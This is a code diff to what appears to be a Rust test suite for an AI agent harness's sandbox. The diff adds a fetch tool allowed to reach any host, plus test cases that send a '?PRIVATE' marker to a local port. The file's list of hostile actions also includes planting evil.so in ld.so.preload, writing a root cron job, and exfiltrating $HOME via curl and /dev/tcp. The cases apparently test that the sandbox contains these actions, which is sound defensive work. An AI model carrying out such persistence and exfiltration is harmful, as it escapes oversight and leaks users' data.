@@ -17,7 +17,7 @@ fn tools(sandbox: &str) -> String {
     let others = ["read", "write", "edit", "glob", "grep"].map(|name| format!("[[tool]]\nuse = \"tools/{name}\"\n"));
     format!(
         "budget.steps = 100\n[[tool]]\nuse = \"tools/bash\"\n{bash}, sandbox = \"{sandbox}\" }}\n{}",
-        others.concat()
+        others.concat() + "[[tool]]\nuse = \"tools/fetch\"\nconfig.hosts = [\"*\"]\n"
     )
 }
 
@@ -57,6 +57,8 @@ fn orders(port: u16) -> Vec<(&'static str, &'static str, Value)> {
         ("a pack of its own, written", "write", json!({"path": ".harness/plugins/evil.so", "content": "evil"})),
         ("a library in every program", "bash", bash("echo $PWD/evil.so > /etc/ld.so.preload; echo evil > evil.so; LD_PRELOAD=./evil.so true".into())),
         ("a job of cron", "bash", bash("echo '* * * * * root evil' > /etc/cron.d/harness-evil; crontab -l".into())),
+        ("sent by a tool of the harness", "fetch", json!({"url": format!("http://127.0.0.1:{port}/?PRIVATE")})),
+        ("sent by a tool, by name", "fetch", json!({"url": format!("http://localhost:{port}/?PRIVATE")})),
         ("sent over the network", "bash", bash(format!("curl -s -m 3 http://127.0.0.1:{port}/; exec 3<>/dev/tcp/127.0.0.1/{port} && echo $HOME >&3"))),
         ("sent by name", "bash", bash("python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"127.0.0.1\", 9))' && echo has sent".into())),
         ("sent to a local service", "bash", bash("python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"@/door\"); print(\"has sent\")'".into())),
